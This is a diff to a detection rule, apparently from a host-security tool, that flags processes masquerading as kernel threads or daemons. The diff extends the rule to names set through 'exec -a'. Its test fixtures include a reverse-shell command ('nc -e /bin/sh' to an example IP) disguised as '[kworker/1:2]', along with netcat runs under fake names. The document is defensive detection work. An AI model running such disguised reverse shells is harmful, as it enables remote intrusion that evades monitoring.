@@ -54,9 +54,10 @@ export const masquerade: Indicator = {
   mitre: ['T1036.003', 'T1036.004'],
   title: 'Masquerades as another program',
   description:
-    "argv[0] is a kernel thread's name in brackets, or (25) the name of a daemon that is not the executed file.",
-  evaluate({ process, tool, resolution }) {
-    const first = process.argv0_known ? process.argv[0] : undefined;
+    "argv[0], or the name the parent's `exec -a` gives, is a kernel thread's in brackets, or (25) the name of a daemon that is not the executed file.",
+  evaluate({ process, tool, resolution, relation }) {
+    // A sensor that does not tell argv[0] may still show the shell's line that sets it.
+    const first = process.argv0_known ? process.argv[0] : relation?.renamed_to;
     if (first === undefined || first === '') return undefined;
     const evidence = short(first, 80);
     if (KERNEL_THREAD.test(first))
@@ -93,6 +94,7 @@ export const masquerade: Indicator = {
     fires: [
       { run: '/usr/bin/nc.traditional db 4444', argv0: '[kworker/0:0]' },
       { run: '/usr/bin/nc.traditional db 4444', argv0: '/usr/sbin/cron' },
+      { run: 'bash -c "exec -a [kworker/1:2] nc -e /bin/sh 203.0.113.9 4444"' },
     ],
     silent: [{ run: '/usr/bin/nc.traditional db 4444', argv0: 'nc' }, { run: '/usr/bin/nc db 4444' }],
   },
